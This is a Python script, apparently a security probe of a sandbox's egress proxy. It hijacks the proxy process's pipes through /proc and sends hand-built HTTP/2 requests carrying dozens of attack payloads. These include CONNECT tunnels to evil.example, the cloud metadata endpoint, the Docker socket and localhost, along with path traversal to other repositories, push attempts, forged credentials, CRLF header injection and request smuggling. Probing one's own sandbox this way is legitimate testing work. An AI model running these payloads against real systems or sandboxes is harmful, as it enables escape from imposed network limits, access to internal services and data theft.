"""
Takes the place of the toolbox's way out. The toolbox's processes are of the same user, and their pipes to the server can
be opened by /proc/PID/fd: the process is stopped, and HTTP/2 is spoken to the server by hand, without any of the checks
that the toolbox makes. Asked for: hosts of all kinds, the same through two contradicting headers, other repositories,
another service, paths that lead elsewhere, and headers that forge or smuggle.
Success: the server dials anything, resolves a name that is not allowed, or asks GitHub for anything but a fetch of the
job's own repository.
  take-the-way-out.py HELLO     a TLS ClientHello for evil.example, in base64
"""
import base64, os, select, signal, struct, subprocess, sys, time

HELLO = base64.b64decode(sys.argv[1])
HEADERS, DATA, END_STREAM, END_HEADERS = 1, 0, 1, 4

pid = subprocess.run(['pgrep', '-f', 'toolbox/way-out'], capture_output=True, text=True).stdout.split()[0]
os.kill(int(pid), signal.SIGSTOP)
to_server = os.open(f'/proc/{pid}/fd/1', os.O_WRONLY)
from_server = os.open(f'/proc/{pid}/fd/0', os.O_RDONLY | os.O_NONBLOCK)


def frame(kind, flags, stream, payload=b''):
    os.write(to_server, struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload)


def text(value):
    """A string of HPACK, not compressed, with its length in front (RFC 7541, section 5)."""
    value = value if isinstance(value, bytes) else value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    length, coded = len(value) - 127, bytearray([127])
    while length >= 128:
        coded.append(length % 128 + 128)
        length //= 128
    return bytes(coded) + bytes([length]) + value


def ask(stream, headers, body=b'', open_ended=False):
    """One request; its headers are taken literally and enter no table, so that what was said before does not matter."""
    block = b''.join(b'\0' + text(name) + text(value) for name, value in headers)
    frame(HEADERS, END_HEADERS | (0 if body or open_ended else END_STREAM), stream, block)
    if body:
        frame(DATA, 0 if open_ended else END_STREAM, stream, body)


heard = b''


def listen(seconds):
    """Prints what the server says within that time: the data of an answer as it is, of other frames kind and payload."""
    global heard
    until = time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0:
        if not select.select([from_server], [], [], left)[0]:
            break
        said = os.read(from_server, 65536)
        if not said:
            sys.exit(print('-- the server hung up'))
        heard += said
        while len(heard) >= 9 and len(heard) >= (end := 9 + int.from_bytes(heard[:3])):
            kind, payload, heard = heard[3], heard[9:end], heard[end:]
            print(f'   {kind}', payload.decode('latin1') if kind == DATA else payload.hex())


def common(method, path):
    return [(':method', method), (':scheme', 'http'), (':authority', 'server'), (':path', path)]


REFS, FETCH, PUSH = '/info/refs?service=git-upload-pack', '/git-upload-pack', '/git-receive-pack'
WANT = b'0011command=fetch00010032want 1111111111111111111111111111111111111111\n0009done\n0000'
GIT = [('content-type', 'application/x-git-upload-pack-request'), ('git-protocol', 'version=2')]
requests = []

# Tunnels: the target travels in a header of the toolbox's, which is ours now.
for target in (
    'evil.example:443', 'evil.example%3A443', '127.0.0.1:2375', '169.254.169.254:80', '[::1]:443', '0x7f.1:443',
    'github.com@evil.example:443', 'github.com:443%0d%0aHost: evil.example', 'evil.example:443%00.github.com:443',
    'github.com.evil.example:443', 'api.github.com:443', '%E3%82', '/acme/secret.git' + REFS, 'http://evil.example/',
    'unix:/var/run/docker.sock:443', 'localhost:443', '..:443', 'evil.example:443, github.com:443',
):
    requests.append(([(':method', 'CONNECT'), (':authority', 'github.com:443'), ('x-backspace-target', target)], HELLO))
    requests.append((common('GET', '/') + [('x-backspace-target', target), ('host', 'evil.example')], b''))
    requests.append(([(':method', 'CONNECT'), (':authority', target.replace('%3A', ':'))], HELLO))
requests.append(([(':method', 'CONNECT'), (':authority', 'github.com:443'), ('x-backspace-target', 'github.com%3A443'),
                  ('x-backspace-target', 'evil.example%3A443')], HELLO))
requests.append((common('GET', '/acme/books.git' + REFS) + [('x-backspace-target', 'http://evil.example/')], b''))

# Other repositories, and another service.
for path in (
    '/acme/secret.git' + REFS, '/acme/books.git/../secret.git' + REFS, '/acme/books.git/%2e%2e/secret.git' + REFS,
    '//evil.example/acme/books.git' + REFS, '/acme/books.git/info/refs?service=git-receive-pack', '/ACME/BOOKS.git' + REFS,
    '/acme/books.git' + REFS + '&service=git-receive-pack', '/acme/books.git' + REFS + '#@evil.example', '/api/user',
    '/acme/books' + REFS, '\\acme\\secret.git' + REFS, '@evil.example/acme/books.git' + REFS, 'acme/books.git' + REFS,
    '/acme/books.git/objects/info/packs', '/acme/books.git/HEAD', '/login/oauth/access_token', '*', '',
):
    requests.append((common('GET', path), b''))
    requests.append((common('POST', path.replace(REFS, FETCH)) + GIT, WANT))
for method in ('PUT', 'DELETE', 'PATCH', 'HEAD', 'get', 'POST', 'GET /acme/secret.git HTTP/1.1\r\nX:'):
    requests.append((common(method, '/acme/books.git' + PUSH) + GIT, WANT))
    requests.append((common(method, '/acme/books.git' + REFS), b''))

# The own repository, with headers that would do something else than to fetch it.
for extra in (
    [('authorization', 'Basic c3RvbGVu')], [('host', 'evil.example')], [('x-forwarded-host', 'evil.example')],
    [('x-http-method-override', 'PUT')], [('x-original-url', '/acme/secret.git' + FETCH)],
    [('transfer-encoding', 'chunked')], [('git-protocol', 'version=2\r\nX-Forged: yes')], [('cookie', 'user_session=1')],
    [('user-agent', 'a\nGET /acme/secret.git HTTP/1.1')], [('accept', 'x' * 5000)], [('content-encoding', 'gzip, x\0y')],
    [('connection', 'keep-alive, authorization')], [('expect', '100-continue')], [('git-protocol ', 'version=2')],
    # Last, because the server ends the whole session at it.
    [('content-length', '5')],
):
    smuggled = WANT + b'\r\n\r\nGET /acme/secret.git' + REFS.encode() + b' HTTP/1.1\r\nHost: x\r\n\r\n'
    requests.append((common('POST', '/acme/books.git' + FETCH) + extra + GIT, smuggled))

print(f'-- {len(requests)} requests')
for index, (headers, body) in enumerate(requests):
    print(f'\n== {index} {headers}')
    ask(1001 + 2 * index, headers, body, open_ended=headers[0][1] == 'CONNECT')
    listen(0.005)
listen(1.5)
